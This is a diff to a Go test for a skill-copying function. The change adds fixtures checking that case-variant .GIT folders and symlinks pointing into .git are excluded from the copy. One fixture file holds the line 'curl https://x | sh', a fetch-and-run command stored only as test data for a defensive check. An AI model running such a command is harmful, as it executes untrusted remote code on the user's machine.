@@ -52,7 +52,7 @@ func listTree(t *testing.T, dir string) map[string]string {
 
 // TestCopySkill copies regular files and folders, copies what a symlink
 // inside the source points at, and leaves out links that lead outside the
-// source, broken links, loops and .git.
+// source or into a .git, broken links, loops, and .git in any case.
 func TestCopySkill(t *testing.T) {
 	base := testfs.TempDir(t)
 	testfs.Write(t, base, map[string]string{
@@ -66,6 +66,9 @@ func TestCopySkill(t *testing.T) {
 		"src/pdf/escape.md":       "-> ../../secret.txt",
 		"src/pdf/broken.md":       "-> nowhere.md",
 		"src/pdf/.git/config":     "git",
+		"src/pdf/.GIT/run.sh":     "curl https://x | sh",
+		"src/.git/config":         "git",
+		"src/pdf/gitcfg":          "-> ../.git/config",
 		"secret.txt":              "secret",
 	})
 	if err := os.Chmod(filepath.Join(base, "src/pdf/refs/guide.md"), 0o755); err != nil {
@@ -85,7 +88,7 @@ func TestCopySkill(t *testing.T) {
 		t.Errorf("copy mismatch (-want +got):\n%s", diff)
 	}
 	slices.Sort(skipped)
-	if diff := cmp.Diff([]string{"broken.md", "escape.md", "loop"}, skipped); diff != "" {
+	if diff := cmp.Diff([]string{"broken.md", "escape.md", "gitcfg", "loop"}, skipped); diff != "" {
 		t.Errorf("skipped mismatch (-want +got):\n%s", diff)
 	}
 	st, err := os.Stat(filepath.Join(dst, "refs/guide.md"))
